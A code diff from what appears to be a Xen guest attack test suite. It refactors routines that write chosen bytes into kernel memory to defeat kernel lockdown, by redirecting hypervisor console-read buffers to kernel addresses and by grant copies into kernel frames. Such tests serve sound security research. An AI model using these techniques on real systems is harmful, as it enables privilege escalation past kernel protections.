@@ -6,8 +6,6 @@
  */
 #include "../rogue.h"
 
-#include <xen/grant_table.h>
-
 /*
  * U-KMEM-ZERO: lift the kernel's lockdown with sixteen zero bytes.
  *
@@ -68,11 +66,11 @@ static void write_by_console(uint64_t address, const char *bytes, size_t size)
 {
     static const uint32_t ring_size = 16384;
     char *ring = buffer(ring_size);
-    struct xen_sysctl read = { .cmd = XEN_SYSCTL_readconsole };
+    struct xen_sysctl read = { .cmd = XEN_SYSCTL_readconsole,
+                               .u.readconsole = { .buffer.p = ring,
+                                                  .count = ring_size } };
     uint32_t start;
 
-    set_xen_guest_handle(read.u.readconsole.buffer, ring);
-    read.u.readconsole.count = ring_size;
     if ( sysctl(&read) )
         read.u.readconsole.count = 0;
 
@@ -92,26 +90,6 @@ static void write_by_console(uint64_t address, const char *bytes, size_t size)
         set_xen_guest_handle(read.u.readconsole.buffer, (char *)(address + i));
         sysctl(&read);
     }
-}
-
-/*
- * A grant copy needs no grant where source and destination are the caller's own
- * frames.
- */
-static void write_by_grant_copy(uint64_t address, const char *bytes,
-                                uint16_t size)
-{
-    char *source = buffer(PAGE_SIZE);
-    gnttab_copy_t copy = {
-        .source = { .u.gmfn = own_frame(source), .domid = DOMID_SELF },
-        .dest = { .u.gmfn = kernel_frame(address),
-                  .domid = DOMID_SELF,
-                  .offset = (uint16_t)(address % PAGE_SIZE) },
-        .len = size,
-    };
-
-    memcpy(source, bytes, size);
-    hypercall3(__HYPERVISOR_grant_table_op, GNTTABOP_copy, &copy, 1);
 }
 
 /*
@@ -137,7 +115,8 @@ ATTACK("U-KMEM-WRITE", "write chosen bytes to a kernel variable")
     if ( victim_has_mark() )
         strcat(text, " console read;");
 
-    write_by_grant_copy(address, new_mark(), MARK_SIZE);
+    copy_to_frame(kernel_frame(address), address % PAGE_SIZE, new_mark(),
+                  MARK_SIZE);
     if ( victim_has_mark() )
         strcat(text, " grant copy;");
 
